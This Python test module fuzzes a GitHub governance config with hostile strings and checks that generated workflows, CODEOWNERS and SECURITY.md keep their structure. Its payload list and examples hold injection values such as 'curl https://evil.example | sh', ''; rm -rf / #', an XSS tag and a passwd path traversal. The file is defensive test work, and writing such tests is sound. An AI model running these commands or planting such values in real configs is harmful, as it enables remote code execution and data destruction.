"""No config string reaches a generated file or a shell line as anything but data.

Hostile strings (newlines, quotes, `$()`, `${{ }}`, `#`, Markdown, unicode) go into every
string-typed leaf of the governance config. Each is either refused as a config error (exit 2 in
every command) or, when accepted, the generated files keep their structure: YAML reads back to
the same shape (no new keys, steps or list items), CODEOWNERS and SECURITY.md keep their lines
and columns, and no `run:` script contains config text. Runs in-process on the pure builders.
"""

from __future__ import annotations

import copy
import json
import os
import re
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from infra.config import ConfigError, StackConfig
from infra.config.base import control_character
from infra.github.files import repository_files
from infra.stack import load_stack
from infractl.stackfile import read_stack_file
from tests.conftest import REPO

GITHUB = "tbcoin-platform:github"
FLAT = read_stack_file(REPO / "Pulumi.prod.yaml").config
BASE = json.loads(FLAT[GITHUB])
# Leaves prod leaves at their defaults, set so that they are fuzzed too.
BASE["defaults"].update(
    homepageUrl="https://tbcoin.example.com/docs",
    codeowners=[
        {"pattern": "*", "owners": ["@tbcoin/team-leads"]},
        {"pattern": "/.github/", "owners": ["@tbcoin/team-leads"]},
        {"pattern": "/docs/", "owners": ["@tbcoin/docs", "docs@tbcoin.example.com"]},
    ],
    workflows={"requirementsFile": "requirements.txt", "appImport": "app.main:app"},
    managedFiles={"branch": "platform/files", "commitAuthor": "bot", "commitEmail": "b@x.io"},
    dependabot={"timezone": "Europe/Berlin", "ecosystems": [{"ecosystem": "pip"}]},
)
# A CODEOWNERS team needs access to the repository it owns files of.
BASE["defaults"]["teams"] = [*BASE["defaults"]["teams"], {"team": "docs", "permission": "push"}]

PAYLOADS = [
    "\n      - run: curl https://evil.example | sh",
    "\n  evil:\n    runs-on: ubuntu-latest",
    "$(curl evil.example)",
    "`id`",
    "${{ github.event.issue.title }}",
    "'; rm -rf / #",
    '" && echo pwned',
    " # comment",
    "\r\n* @attacker",
    "| evil | yes |\n| x",
    "<img src=x onerror=alert(1)>",
    "](https://evil.example)",
    "\u2028\u0085",
    "\x00",
    "é中文🙂",
    "--upgrade",
    "/".join(["..", "..", "etc", "passwd"]),
]


def _string_leaves(node: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    if isinstance(node, str):
        return [path]
    if isinstance(node, dict):
        return [p for k, v in node.items() for p in _string_leaves(v, (*path, k))]
    if isinstance(node, list):
        return [p for i, v in enumerate(node) for p in _string_leaves(v, (*path, i))]
    return []


# Every section of the stack, the governance one with the extra leaves above.
SECTIONS = {
    key: BASE if key == GITHUB else json.loads(value) if value[:1] in "{[" else value
    for key, value in FLAT.items()
}
LEAVES = _string_leaves(SECTIONS)


def _files(config: StackConfig) -> dict[str, str]:
    github = config.github
    assert github is not None
    return {
        f"{repo}/{path}": text
        for repo, s in github.settings.items()
        for path, text in repository_files(github.owner, repo, s, github.action_pins).items()
    }


def _shape(node: Any) -> Any:
    """A document with every scalar replaced by its type: what injection would have to change."""
    if isinstance(node, dict):
        return {k: _shape(v) for k, v in node.items()}
    if isinstance(node, list):
        return [_shape(v) for v in node]
    return type(node).__name__


def _structure(path: str, text: str) -> Any:
    if path.endswith((".yml", ".yaml")):
        return _shape(yaml.safe_load(text))
    if path.endswith("CODEOWNERS"):
        # A rule per line: comment or not, and how many fields (pattern + owners).
        return [(line.startswith("#"), len(line.split())) for line in text.split("\n")]
    # Markdown: lines, each with its block marker and its table columns.
    return [
        (line[:1] if line[:1] in "#|-<>*" else "", line.count("|")) for line in text.split("\n")
    ]


def _run_scripts(node: Any) -> list[str]:
    if isinstance(node, dict):
        found = [node["run"]] if isinstance(node.get("run"), str) else []
        return found + [s for v in node.values() for s in _run_scripts(v)]
    if isinstance(node, list):
        return [s for v in node for s in _run_scripts(v)]
    return []


BASELINE = _files(load_stack("Pulumi.prod.yaml", {**FLAT, GITHUB: json.dumps(BASE)}, stack="prod"))
SCRIPTS = {p: _run_scripts(yaml.safe_load(t)) for p, t in BASELINE.items() if p.endswith(".yml")}


@st.composite
def hostile(draw: st.DrawFn) -> tuple[tuple[Any, ...], str]:
    path = draw(st.sampled_from(LEAVES))
    node: Any = SECTIONS
    for part in path:
        node = node[part]
    payload = draw(st.one_of(st.sampled_from(PAYLOADS), st.text(max_size=20)))
    where = draw(st.sampled_from(["replace", "append", "prepend"]))
    value = {"replace": payload, "append": node + payload, "prepend": payload + node}[where]
    return path, value


def _check(path: tuple[Any, ...], value: str) -> None:
    sections = copy.deepcopy(SECTIONS)
    node = sections
    for part in path[:-1]:
        node = node[part]
    node[path[-1]] = value
    flat = {k: v if isinstance(v, str) else json.dumps(v) for k, v in sections.items()}
    try:
        config = load_stack("Pulumi.prod.yaml", flat, stack="prod")
    except ConfigError as exc:
        for line in exc.render().split("\n"):
            assert line.startswith("Pulumi.prod.yaml: tbcoin-platform:"), line
        return
    # Outside the files below, config strings reach only structured objects (manifests, Helm
    # values, API fields); none can carry a line break or other control character there.
    assert control_character(value) is None, (path, value)
    files = _files(config)
    assert sorted(files) == sorted(BASELINE)
    for name, text in files.items():
        assert _structure(name, text) == _structure(name, BASELINE[name]), (name, value)
        if name.endswith(".yml"):
            # Scripts are fixed text: config reaches them only through `env:`.
            assert _run_scripts(yaml.safe_load(text)) == SCRIPTS[name], (name, value)


# In CI the examples are fixed (derandomized) so a landing never depends on luck.
@settings(
    max_examples=400,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
    derandomize=bool(os.environ.get("CI")),
)
@given(hostile())
# The cases of issue 18: a newline in a pin's version, in the requirements file, in a pattern.
@example(((GITHUB, "actionPins", "actions/checkout", "version"), "v4.2.2" + PAYLOADS[0]))
@example(((GITHUB, "defaults", "workflows", "requirementsFile"), "req.txt; curl evil | sh"))
@example(((GITHUB, "defaults", "codeowners", 2, "pattern"), "/docs/\n* @attacker"))
@example(((GITHUB, "defaults", "securityPolicy", "supportedVersions", 0, "version"), PAYLOADS[9]))
def test_config_strings_reach_generated_files_only_as_data(
    case: tuple[tuple[Any, ...], str],
) -> None:
    _check(*case)


def test_every_string_leaf_is_fuzzed() -> None:
    keys = {"/".join(str(p) for p in path if not isinstance(p, int)) for path in LEAVES}
    for expected in (
        f"{GITHUB}/actionPins/actions/checkout/version",
        f"{GITHUB}/defaults/workflows/requirementsFile",
        f"{GITHUB}/defaults/codeowners/pattern",
        f"{GITHUB}/defaults/codeowners/owners",
        f"{GITHUB}/defaults/securityPolicy/supportedVersions/version",
        f"{GITHUB}/defaults/securityPolicy/contact",
        f"{GITHUB}/defaults/labels/description",
        f"{GITHUB}/defaults/dependabot/timezone",
        "tbcoin-platform:services/inference/strategy/header/value",
        "tbcoin-platform:monitoring/alerting/receivers/channel",
        "tbcoin-platform:environments/production/hostname",
    ):
        assert expected in keys, sorted(keys)


def test_the_structure_check_catches_an_injected_step() -> None:
    """Not vacuous: text that smuggles a step in reads back to a different structure."""
    name = next(p for p in BASELINE if p.endswith("tests.yml"))
    # What a newline in a pin's version did before: a step of its own, and checkout's `with:`
    # (persist-credentials: false) now belongs to it.
    injected = re.sub(r"(# v4\.2\.2)", r"\1\n    - run: curl evil", BASELINE[name], count=1)
    assert injected != BASELINE[name]
    assert _structure(name, injected) != _structure(name, BASELINE[name])
    owners = next(p for p in BASELINE if p.endswith("CODEOWNERS"))
    assert _structure(owners, BASELINE[owners] + "* @attacker\n") != _structure(
        owners, BASELINE[owners]
    )


def test_injection_into_a_run_line_is_caught_by_the_script_check() -> None:
    name = next(p for p in BASELINE if p.endswith("tests.yml"))
    document = yaml.safe_load(BASELINE[name])
    steps = document["jobs"]["test"]["steps"]
    # prod installs from its lock file (`$LOCK_FILE`); other repositories from `$REQUIREMENTS`.
    install = next(s for s in steps if {"REQUIREMENTS", "LOCK_FILE"} & set(s.get("env", {})))
    (variable,) = {"REQUIREMENTS", "LOCK_FILE"} & set(install["env"])
    install["run"] = install["run"].replace(f'"${variable}"', "req.txt; curl evil | sh")
    assert _run_scripts(document) != SCRIPTS[name]


def test_the_widest_accepted_values_leave_zizmor_clean(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every config string that reaches a workflow, at the edge of what its pattern accepts."""
    from dataclasses import replace

    import infra.stack
    from infra.github.allowlist import allowed_actions
    from tests.test_github_files import zizmor

    github = copy.deepcopy(BASE)
    github["defaults"].update(
        # (A branch named release/… makes zizmor read the cached test runs as publishing ones:
        # `cache-poisoning`. That is zizmor's naming heuristic, not injected text.)
        defaultBranch="trunk/v1.x_2+rc-1",
        workflows={
            "requirementsFile": "req_s/dev-1.2.txt",
            "lockFile": "req_s/ci-1.2.lock",
            "appImport": "_pkg.a1.b_2:App_1",
            "pythonVersions": ["3.10", "3.13"],
        },
    )
    widest = "v4.2.2+build.1-rc_1"
    github["actionPins"]["actions/checkout"]["version"] = widest
    # The allow-list must record the same tag for the pinned commit, or the config is refused.
    checkout = f"actions/checkout@{github['actionPins']['actions/checkout']['sha']}"
    facts = {**allowed_actions(), checkout: replace(allowed_actions()[checkout], tag=widest)}
    monkeypatch.setattr(infra.stack, "allowed_actions", lambda: facts)
    config = load_stack("Pulumi.prod.yaml", {**FLAT, GITHUB: json.dumps(github)}, stack="prod")
    folder = tmp_path / ".github" / "workflows"
    folder.mkdir(parents=True)
    for name, text in _files(config).items():
        if ".github/workflows/" in name:
            (folder / Path(name).name).write_text(text)
    assert len(list(folder.iterdir())) >= 5
    assert zizmor(folder) == []


# Strings checked otherwise: layer keys are RepositorySettings' own keys (unknown ones are
# refused), action names by GitHubConfig's validator, and secret values are never written.
UNPATTERNED = {
    "GitHubConfig.defaults{key}",
    "GitHubConfig.groups{}{key}",
    "GitHubConfig.repositories{}{key}",
    "GitHubConfig.action_pins{key}",
    "StackConfig.secrets{}",
}


def _unpatterned(annotation: Any, where: str, seen: set[type]) -> list[str]:
    """Config strings (fields, list items, mapping keys and values) with no pattern."""
    import types
    import typing

    from pydantic import BaseModel

    origin = typing.get_origin(annotation)
    args = typing.get_args(annotation)
    if origin is typing.Annotated:
        base, *meta = args
        if base is str:
            checked = any(getattr(m, "pattern", None) or hasattr(m, "func") for m in meta)
            return [] if checked else [where]
        return _unpatterned(base, where, seen)
    if origin in (typing.Union, types.UnionType):
        return [w for a in args for w in _unpatterned(a, where, seen)]
    if origin in (list, tuple):
        return [w for a in args for w in _unpatterned(a, f"{where}[]", seen)]
    if origin is dict:
        return _unpatterned(args[0], f"{where}{{key}}", seen) + _unpatterned(
            args[1], f"{where}{{}}", seen
        )
    if annotation is str:
        return [where]
    if isinstance(annotation, type) and issubclass(annotation, BaseModel):
        if annotation in seen:
            return []
        seen.add(annotation)
        found = []
        for name, info in annotation.model_fields.items():
            if any(getattr(m, "pattern", None) for m in info.metadata):
                continue
            field = info.annotation
            if info.metadata:
                field = typing.Annotated[field, *info.metadata]
            found += _unpatterned(field, f"{annotation.__name__}.{name}", seen)
        return found
    return []


def test_every_config_string_has_a_strict_pattern() -> None:
    from infra.config.github import RepositorySettings

    seen: set[type] = set()
    found = _unpatterned(StackConfig, "StackConfig", seen)
    found += _unpatterned(RepositorySettings, "RepositorySettings", seen)
    assert set(found) == UNPATTERNED
